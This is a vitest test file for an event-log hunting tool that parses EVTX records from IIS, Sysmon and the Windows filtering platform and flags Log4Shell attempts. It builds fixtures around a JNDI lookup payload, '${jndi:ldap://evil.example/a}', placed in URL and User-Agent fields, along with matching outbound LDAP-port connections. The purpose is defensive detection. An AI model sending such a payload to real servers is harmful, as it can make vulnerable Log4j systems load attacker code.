import { expect, test } from 'vitest'
import { evtxOf } from '../../../test/kit/event-log.ts'
import { contained } from '../../../test/kit/hunting.ts'

const attack = '${jndi:ldap://evil.example/a}'

test('values of an event are read by the names that its template gives them, with its time', () => {
  const { findings, gaps } = contained(evtxOf([{ values: { EventID: 1, User: 'alice', Url: `/a?q=${attack}` } }]))

  expect(gaps).toEqual([])
  expect(findings).toMatchObject([
    {
      field: 'Url',
      format: 'evtx',
      when: Date.UTC(2021, 11, 12, 4, 25, 41),
      verdict: 'fires',
      lookup: { host: 'evil.example' },
    },
  ])
  expect(findings[0]?.evidence[0]).toMatchObject({ text: `User: alice | Url: /a?q=${attack}` })
})

test('a template that an earlier event brought names the values of later ones', () => {
  const event = (Url: string) => ({ values: { EventID: 1, Url } })
  const { findings } = contained(evtxOf([event('a'), event('b'), event(attack)]))

  expect(findings.map(({ field }) => field)).toEqual(['Url'])
})

test('an event of IIS says who sent what', () => {
  const values = {
    EventID: 6200,
    'c-ip': '203.0.113.9',
    'cs-method': 'GET',
    'cs-uri-stem': '/a',
    'csUser-Agent': attack,
  }

  expect(contained(evtxOf([{ values }])).findings).toMatchObject([
    { from: '203.0.113.9', request: 'GET /a', userAgent: attack, field: 'csUser-Agent' },
  ])
})

test('connections and DNS queries that Sysmon saw, and those of the filtering platform, say who went out', () => {
  const { saw } = contained(
    evtxOf([
      {
        values: {
          EventID: 3,
          Protocol: 'tcp',
          SourceIp: '10.0.0.4',
          DestinationIp: '203.0.113.66',
          DestinationPort: 1389,
        },
      },
      { values: { EventID: 22, QueryName: 'evil.example', QueryResults: '203.0.113.66' } },
      {
        values: {
          EventID: 5156,
          Direction: '%%14593',
          SourceAddress: '10.0.0.4',
          DestAddress: '203.0.113.66',
          DestPort: '1389',
          Protocol: 6,
        },
      },
      {
        values: {
          EventID: 5156,
          Direction: '%%14592',
          SourceAddress: '203.0.113.66',
          DestAddress: '10.0.0.4',
          DestPort: '80',
        },
      },
    ]),
  )

  expect(saw).toEqual([
    { is: 'connection', to: '203.0.113.66', name: null, port: 1_389, by: '10.0.0.4', protocol: 'tcp' },
    { is: 'dns-query', name: 'evil.example', by: null },
    { is: 'connection', to: '203.0.113.66', name: null, port: 1_389, by: '10.0.0.4', protocol: 'tcp' },
  ])
})

test('a template that is broken costs the names, and a record that is broken what follows in its chunk, with a gap', () => {
  const file = evtxOf([{ values: { EventID: 1, Url: 'a' } }, { values: { EventID: 1, Url: attack } }])
  const noTemplate = file.slice()
  noTemplate.fill(0xee, 4_096 + 512 + 24 + 14 + 24, 4_096 + 512 + 24 + 14 + 24 + 8)
  const first = new DataView(file.buffer).getUint32(4_096 + 512 + 4, true)
  const noRecord = file.slice()
  new DataView(noRecord.buffer).setUint32(4_096 + 512 + first + 4, 0xffff, true)

  expect(contained(noTemplate).findings).toMatchObject([{ field: null, lookup: { host: 'evil.example' } }])
  expect(contained(noRecord).gaps).toMatchObject([{ because: 'malformed' }])
})
